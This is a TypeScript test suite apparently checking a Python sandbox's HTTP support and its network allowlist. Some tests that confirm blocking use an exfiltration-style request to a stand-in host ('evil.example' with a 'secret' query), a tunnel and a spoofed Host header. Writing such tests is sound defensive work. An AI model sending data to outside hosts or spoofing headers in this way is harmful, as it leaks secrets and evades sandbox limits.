import { beforeAll, describe, expect, test } from 'vitest';
import { sharedSession } from '../support/session.ts';
import { sharedServer, trustTestCertificate } from './support/servers.ts';
import { web } from './support/web.ts';

const server = sharedServer(web);
const secure = sharedServer(web, { secure: true });
const { run } = sharedSession({ allowedHosts: ['127.0.0.1', 'localhost'] });

/** Runs a program in which `BASE` is the server's URL and `PORT` its port. */
const program = (code: string) =>
  run(`BASE, PORT = 'http://127.0.0.1:${server.port}', ${server.port}\n${code}`);
const resultOf = async (code: string): Promise<unknown> => {
  const { ok, value, message } = await program(code);
  expect(ok, message).toBe(true);
  return value;
};

describe('urllib.request', () => {
  test('reads pages: text, binary, chunks, gzip, nothing', async () => {
    expect(
      await resultOf(`
import urllib.request, json
def read(path):
    with urllib.request.urlopen(BASE + path) as response:
        return [response.status, list(response.read())]
answer = urllib.request.urlopen(BASE + '/a%20b?c=d')
told = json.load(answer)
[[answer.status, answer.reason, answer.url == BASE + '/a%20b?c=d', answer.headers['content-type'], told['url']],
 read('/binary'), bytes(read('/chunks')[1]).decode(), bytes(read('/gzip')[1]).decode(), read('/nothing')]
`),
    ).toEqual([
      [200, 'OK', true, 'application/json', '/a%20b?c=d'],
      [200, [0, 255, 13, 10, 128]],
      'one,two',
      'grüße',
      [204, []],
    ]);
  });

  test('sends methods, headers and bodies', async () => {
    await resultOf(`
import urllib.request, urllib.parse
form = urllib.parse.urlencode({'a': 'b c'}).encode()
urllib.request.urlopen(BASE + '/form', data=form).close()
request = urllib.request.Request(BASE + '/put', data=b'\\x00\\xff', method='PUT', headers={'X-Own': 'yes', 'Authorization': 'Basic x'})
urllib.request.urlopen(request).close()
urllib.request.urlopen(urllib.request.Request(BASE + '/head', method='HEAD')).close()
import io
urllib.request.urlopen(urllib.request.Request(BASE + '/stream', data=io.BytesIO(b'z' * 100_000), method='POST')).close()
urllib.request.urlopen(urllib.request.Request(BASE + '/parts', data=(part for part in [b'ab', b'', b'cd']), method='POST')).close()
`);
    expect(server.arrived.map(({ method, path, body }) => [method, path, body.length])).toEqual([
      ['POST', '/form', 5],
      ['PUT', '/put', 2],
      ['HEAD', '/head', 0],
      ['POST', '/stream', 100_000],
      ['POST', '/parts', 4],
    ]);
    const [form, put] = server.arrived;
    expect(form).toMatchObject({
      body: 'a=b+c',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    expect(put?.headers).toMatchObject({ 'x-own': 'yes', authorization: 'Basic x' });
    expect(server.arrived.at(-1)?.body).toBe('abcd');
  });

  test('raises HTTPError for a status that says so, with its body', async () => {
    expect(
      await resultOf(`
import urllib.request, urllib.error
told = []
for path in ('/broken', '/missing'):
    try:
        urllib.request.urlopen(BASE + path)
    except urllib.error.HTTPError as error:
        told.append([error.code, error.reason, error.headers['x-why'], error.read().decode()])
told
`),
    ).toEqual([
      [500, 'Oh No', 'it broke', 'sorry'],
      [404, 'Not Found', null, ''],
    ]);
  });

  test('follows redirects by itself, with cookies where a program keeps them', async () => {
    expect(
      await resultOf(`
import urllib.request, http.cookiejar
jar = http.cookiejar.CookieJar()
opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
answer = opener.open(BASE + '/moved')
[answer.url == BASE + '/landed', {cookie.name: cookie.value for cookie in jar}]
`),
    ).toEqual([true, { seen: '1' }]);
    expect(server.arrived.map(({ path, headers }) => [path, headers.cookie])).toEqual([
      ['/moved', undefined],
      ['/landed', 'seen=1'],
    ]);
  });

  test('H-S4 raises URLError with the host’s words for a host that is not allowed', async () => {
    const { error, message } = await program(
      "import urllib.request; urllib.request.urlopen('http://evil.example/?q=secret')",
    );
    expect(error).toBe('URLError');
    expect(message).toBe(
      '<urlopen error GET http://evil.example/ is not allowed: the allowed hosts are 127.0.0.1, ' +
        'localhost; list evil.example in allowedHosts, or run with --allow-host evil.example>',
    );
    expect(
      await resultOf(`
import urllib.request, urllib.error
told = []
for url in ('http://10.0.0.1/', 'http://nowhere.invalid/', BASE + '/away', 'http://127.0.0.1:1/'):
    try:
        urllib.request.urlopen(url)
    except urllib.error.URLError as error:
        told.append([type(error.reason).__name__, error.reason.code, isinstance(error.reason, OSError)])
told
`),
    ).toEqual([
      ['NetworkError', 'host_not_allowed', true],
      ['NetworkError', 'host_not_allowed', true],
      ['NetworkError', 'host_not_allowed', true],
      ['NetworkError', 'connection_failed', true],
    ]);
  });

  test('H-L7 raises TimeoutError when a server does not answer in time', async () => {
    const { error, message } = await program(
      "import urllib.request; urllib.request.urlopen(BASE + '/hang', timeout=0.2)",
    );
    expect([error, message]).toEqual([
      'NetworkTimeoutError',
      `GET http://127.0.0.1:${server.port}/hang did not end within 200 ms`,
    ]);
    expect(
      await resultOf(`
import urllib.request, socket
socket.setdefaulttimeout(0.2)
try:
    urllib.request.urlopen(BASE + '/hang')
except TimeoutError as error:
    told = isinstance(error, socket.timeout)
finally:
    socket.setdefaulttimeout(None)
told
`),
    ).toBe(true);
  });

  test('says that there are no proxies', async () => {
    const { message } = await program(`
import urllib.request
proxies = urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128', 'https': 'http://127.0.0.1:3128'})
urllib.request.build_opener(proxies).open(BASE + '/')
`);
    expect(message).toContain('requests cannot go through a proxy: the host makes them itself');
  });

  test('saves to a file by urlretrieve', async () => {
    expect(
      await resultOf(`
import urllib.request
path, headers = urllib.request.urlretrieve(BASE + '/binary', 'saved.bin')
list(open(path, 'rb').read())
`),
    ).toEqual([0, 255, 13, 10, 128]);
  });
});

describe('http.client', () => {
  test('makes one request after another on a connection', async () => {
    expect(
      await resultOf(`
import http.client, json
connection = http.client.HTTPConnection('127.0.0.1', PORT)
told = []
for path in ('/first', '/second'):
    connection.request('POST', path, body='text', headers={'X-N': '1'})
    response = connection.getresponse()
    told.append([response.status, response.version, response.getheader('content-type'), json.load(response)['url']])
connection.request('HEAD', '/third')
response = connection.getresponse()
told.append([response.status, response.read().decode(), response.getheader('nothing')])
connection.close()
told
`),
    ).toEqual([
      [200, 11, 'application/json', '/first'],
      [200, 11, 'application/json', '/second'],
      [200, '', null],
    ]);
    expect(server.arrived.map(({ body }) => body)).toEqual(['text', 'text', '']);
  });

  test('reads an answer in parts, and does not follow redirects', async () => {
    expect(
      await resultOf(`
import http.client
connection = http.client.HTTPConnection('127.0.0.1', PORT)
connection.request('GET', '/large')
response = connection.getresponse()
sizes = [len(response.read(1_000_000)), len(response.read1(10)), len(response.read())]
connection.request('GET', '/moved')
response = connection.getresponse()
[sizes, response.status, response.getheader('Location'), response.headers.get_all('set-cookie')]
`),
    ).toEqual([[1_000_000, 10, 999_990], 302, '/landed', ['seen=1']]);
  });

  test('takes a request that is put together piece by piece', async () => {
    expect(
      await resultOf(`
import http.client
connection = http.client.HTTPConnection('127.0.0.1', PORT)
connection.putrequest('POST', '/pieces', skip_accept_encoding=True)
connection.putheader('Transfer-Encoding', 'chunked')
connection.putheader('X-Many', 'a', 'b')
connection.endheaders()
for chunk in (b'0\\r\\n\\r\\n', b'end'):
    connection.send(b'%x\\r\\n%s\\r\\n' % (len(chunk), chunk))
connection.send(b'0\\r\\n\\r\\n')
connection.getresponse().status
`),
    ).toBe(200);
    expect(server.arrived).toMatchObject([
      { path: '/pieces', body: '0\r\n\r\nend', headers: { 'x-many': 'a\tb' } },
    ]);
  });

  test('works in classes that are derived from it, whichever way they connect', async () => {
    expect(
      await resultOf(`
import http.client, socket
class Direct(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.create_connection((self.host, self.port), self.timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
class Through(http.client.HTTPConnection):
    def connect(self):
        super().connect()
        self.peer = self.sock.getpeername()
told = []
for kind in (Direct, Through):
    connection = kind('127.0.0.1', PORT, timeout=5)
    connection.request('GET', '/' + kind.__name__)
    told.append(connection.getresponse().status)
told + [connection.peer == ('127.0.0.1', PORT)]
`),
    ).toEqual([200, 200, true]);
    expect(server.arrived.map(({ path }) => path)).toEqual(['/Direct', '/Through']);
  });

  test('H-S4 refuses tunnels, foreign Host headers and what is not HTTP', async () => {
    expect(
      await resultOf(`
import http.client, socket, smtplib, ftplib
told = []
def attempt(action):
    try:
        action()
    except Exception as error:
        told.append(str(error).splitlines()[0])
tunnel = http.client.HTTPConnection('127.0.0.1', PORT)
tunnel.set_tunnel('evil.example', 443)
attempt(lambda: tunnel.request('GET', '/'))
fronted = http.client.HTTPConnection('127.0.0.1', PORT)
attempt(lambda: fronted.request('GET', '/', headers={'Host': 'evil.example'}))
attempt(lambda: socket.create_connection(('127.0.0.1', PORT)).recv(10))
attempt(lambda: socket.create_connection(('127.0.0.1', PORT)).sendall(b'HELO there\\r\\n\\r\\n'))
attempt(lambda: ftplib.FTP('127.0.0.1'))
told
`),
    ).toEqual([
      'requests cannot go through a proxy: the host makes them itself',
      `GET http://127.0.0.1:${server.port}/ cannot be sent: its Host header names evil.example, and must name the host of the URL`,
      'this sandbox has no sockets: its network speaks HTTP only, as urllib.request, http.client and causeway.fetch do',
      'this sandbox has no sockets: its network speaks HTTP only, as urllib.request, http.client and causeway.fetch do',
      'this sandbox has no sockets: its network speaks HTTP only, as urllib.request, http.client and causeway.fetch do',
    ]);
    expect(server.connections).toBe(0);
  });
});

describe('https', () => {
  beforeAll(trustTestCertificate);

  test('works in urllib, http.client and over a context of one’s own', async () => {
    expect(
      await resultOf(`
import urllib.request, http.client, ssl, socket
HOST, SECURE = 'localhost', ${secure.port}
told = [urllib.request.urlopen(f'https://{HOST}:{SECURE}/chunks').read().decode()]
unverified = ssl._create_unverified_context()
told.append(urllib.request.urlopen(f'https://{HOST}:{SECURE}/chunks', context=unverified).read().decode())
connection = http.client.HTTPSConnection(HOST, SECURE)
connection.request('GET', '/chunks')
told.append(connection.getresponse().read().decode())
raw = socket.create_connection((HOST, SECURE))
with ssl.create_default_context().wrap_socket(raw, server_hostname=HOST) as wrapped:
    wrapped.sendall(b'GET /chunks HTTP/1.1\\r\\nHost: localhost:%d\\r\\n\\r\\n' % SECURE)
    told.append(wrapped.recv(10_000).decode().rpartition('\\r\\n')[2])
told
`),
    ).toEqual(['one,two', 'one,two', 'one,two', 'one,two']);
  });

  test('H-S4 takes no certificate of another host, whatever the program asks for', async () => {
    expect(
      await resultOf(`
import urllib.request, http.client, ssl, socket
SECURE = ${secure.port}
told = []
def attempt(action):
    try:
        action()
    except OSError as error:
        told.append(getattr(error, 'reason', error).code)
unverified = ssl._create_unverified_context()
attempt(lambda: urllib.request.urlopen(f'https://127.0.0.1:{SECURE}/'))
attempt(lambda: urllib.request.urlopen(f'https://127.0.0.1:{SECURE}/', context=unverified))
raw = socket.create_connection(('127.0.0.1', SECURE))
attempt(lambda: unverified.wrap_socket(raw, server_hostname='localhost'))
told
`),
    ).toEqual(['tls_failed', 'tls_failed', 'invalid_request']);
    expect(secure.arrived).toEqual([]);
  });
});

describe('packages', () => {
  test('that connect as urllib3 does in WebAssembly get connections that work', async () => {
    // The parts of urllib3 that matter: it replaces its connections there by ones that need a browser.
    expect(
      await resultOf(`
import os, sys
files = {
    '__init__.py': 'from .contrib.emscripten import inject_into_urllib3\\ninject_into_urllib3()\\n',
    'util/__init__.py': '',
    'util/connection.py': 'def create_connection(*given): raise OSError("a real one")\\n',
    'contrib/__init__.py': '',
    'contrib/emscripten/__init__.py': 'import js\\n',
}
for name, text in files.items():
    os.makedirs(os.path.dirname(f'urllib3/{name}'), exist_ok=True)
    open(f'urllib3/{name}', 'w').write(text)
import http.client
import urllib3.util.connection
class Connection(http.client.HTTPConnection):
    def connect(self):
        make = urllib3.util.connection.create_connection
        self.sock = make((self.host, self.port), object(), source_address=None, socket_options=[])
connection = Connection('127.0.0.1', PORT)
connection.request('GET', '/by-package')
connection.getresponse().status
`),
    ).toBe(200);
    expect(server.arrived.map(({ path }) => path)).toEqual(['/by-package']);
  });
});
